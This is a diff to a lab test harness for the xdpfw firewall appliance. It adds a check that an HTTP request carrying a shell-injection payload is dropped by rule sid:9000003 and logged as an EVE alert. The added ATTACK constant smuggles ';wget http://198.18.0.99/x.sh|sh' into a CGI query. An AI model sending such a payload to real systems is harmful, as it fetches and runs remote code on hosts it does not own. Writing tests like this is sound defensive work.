@@ -13,6 +13,7 @@ import logging
 import signal
 import subprocess
 import sys
+import tempfile
 import time
 import urllib.request
 from dataclasses import dataclass
@@ -28,6 +29,7 @@ RULES_DIR = Path(__file__).resolve().parents[2] / "rules"
 LAB_RULES = RULES_DIR / "lab.rules"
 BLOCKED_HOST = "198.18.0.66"
 BLOCKED_PORT = 23
+ATTACK = "GET /cgi-bin/status?q=;wget http://198.18.0.99/x.sh|sh HTTP/1.0\r\n\r\n"
 
 
 class ApplianceProcess:
@@ -181,7 +183,7 @@ def add_arguments(p) -> None:
 
 
 def _row(name: str, ok: bool, detail: str) -> str:
-    return f"  {'PASS' if ok else 'FAIL'}  {name:<44} {detail}"
+    return f"  {'PASS' if ok else 'FAIL'}  {name:<50} {detail}"
 
 
 def run(args) -> int:
@@ -189,8 +191,10 @@ def run(args) -> int:
     results: list[bool] = []
     with Lab(prefix=args.prefix, queues=args.queues) as lab:
         lab.add_address(lab.client, f"{BLOCKED_HOST}/24")
+        eve_dir = tempfile.TemporaryDirectory(prefix="xdpfw-lab-")
+        eve = Path(eve_dir.name) / "eve.json"
         extra = [a for r in rules for a in ("--rules", r)]
-        app = ApplianceProcess(lab, *extra, "--queues", str(args.queues))
+        app = ApplianceProcess(lab, *extra, "--queues", str(args.queues), "--eve", str(eve))
         try:
             app.start()
             print(f"\nxdpfw inline between {lab.side_a} (client side) and {lab.side_b} (server side), "
@@ -216,10 +220,32 @@ def run(args) -> int:
             results.append(ok)
             lines.append(_row(f"TCP connect to blocked port {BLOCKED_PORT}", ok,
                               "refused by the appliance" if ok else "connected (expected blocked)"))
+            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8080,
+                             timeout=5, prefix=ATTACK)
+            ok = not t.ok and t.bytes == 0
+            results.append(ok)
+            lines.append(_row("TCP request carrying a shell-injection payload", ok,
+                              "dropped by rule sid:9000003" if ok else f"{t.bytes} bytes got through"))
+            t = tcp_transfer(lab, lab.client.ns, lab.server.ns, lab.server.ip, 1 << 20, port=8081,
+                             prefix="GET /cgi-bin/status?q=uptime HTTP/1.0\r\n\r\n")
+            results.append(t.ok)
+            lines.append(_row("the same request without the payload", t.ok, "passed"))
             print("traffic:")
             print("\n".join(lines))
             print()
             print(summarize_metrics(app.metrics(), lab))
+            time.sleep(0.5)  # the daemon drains alert rings every 0.2 s
+            alerts = [json.loads(x) for x in eve.read_text().splitlines()] if eve.exists() else []
+            print(f"\nEVE records written by the appliance ({eve}):")
+            for a in alerts:
+                print(f"  {a['timestamp']} {a['event_type']:<5} {a['src_ip']}:{a.get('src_port')} -> "
+                      f"{a['dest_ip']}:{a.get('dest_port')} sid:{a['alert']['signature_id']} "
+                      f"{a['alert']['action']} \"{a['alert']['signature']}\"")
+            ok = any(a["event_type"] == "alert" and a["alert"]["signature_id"] == 9000003
+                     and a["alert"]["action"] == "blocked" for a in alerts)
+            results.append(ok)
+            if not ok:
+                print("  FAIL  no blocked alert for sid:9000003")
             if args.keep:
                 print(f"\nlab kept: namespaces {', '.join(lab.namespaces)}; metrics inside {lab.fw_ns} "
                       f"at http://127.0.0.1:{app.metrics_port}/metrics. Ctrl-C to clean up.")
@@ -229,6 +255,7 @@ def run(args) -> int:
                     pass
         finally:
             rc = app.stop()
+        eve_dir.cleanup()
         print(f"\nappliance stopped (exit {rc}); XDP detached; removing namespaces {', '.join(lab.namespaces)}")
         results.append(rc == 0)
     ok = all(results)
